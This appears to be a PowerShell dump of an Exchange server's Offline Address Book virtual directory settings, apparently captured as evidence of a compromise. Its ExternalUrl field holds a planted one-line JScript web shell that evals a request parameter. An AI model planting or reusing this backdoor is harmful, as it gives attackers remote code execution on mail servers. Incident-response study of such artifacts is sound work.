
RunspaceId                              : d0c3b5a1-6e2f-4c8a-9f17-3b2a1c0e5d94
Name                                    : OAB (Default Web Site)
OfflineAddressBooks                     : {\Default Offline Address Book}
RequireSSL                              : False
BasicAuthentication                     : False
WindowsAuthentication                   : True
OAuthAuthentication                     : True
PollInterval                            : 480
MetabasePath                            : IIS://EXCH01.corp.example.com/W3SVC/1/ROOT/OAB
Path                                    : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking         : None
ExtendedProtectionFlags                 :
ExtendedProtectionSPNList               : {}
AdminDisplayVersion                     : Version 15.1 (Build 2106.2)
Server                                  : EXCH01
InternalUrl                             : https://exch01.corp.example.com/OAB
InternalAuthenticationMethods           : {WindowsIntegrated}
ExternalUrl                             : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>
ExternalAuthenticationMethods           : {WindowsIntegrated}
AdminDisplayName                        :
ExchangeVersion                         : 0.10 (14.0.100.0)
DistinguishedName                       : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=CORP,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example,DC=com
Identity                                : EXCH01\OAB (Default Web Site)
Guid                                    : 5f3a0b3e-7c21-4d8e-9b0a-3e6f1c2d4a57
ObjectCategory                          : corp.example.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                             : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                             : 3/3/2021 2:15:02 AM
WhenCreated                             : 6/14/2020 9:41:27 AM
WhenChangedUTC                          : 3/3/2021 2:15:02 AM
WhenCreatedUTC                          : 6/14/2020 9:41:27 AM
OrganizationId                          :
Id                                      : EXCH01\OAB (Default Web Site)
OriginatingServer                       : DC01.corp.example.com
IsValid                                 : True
ObjectState                             : Unchanged

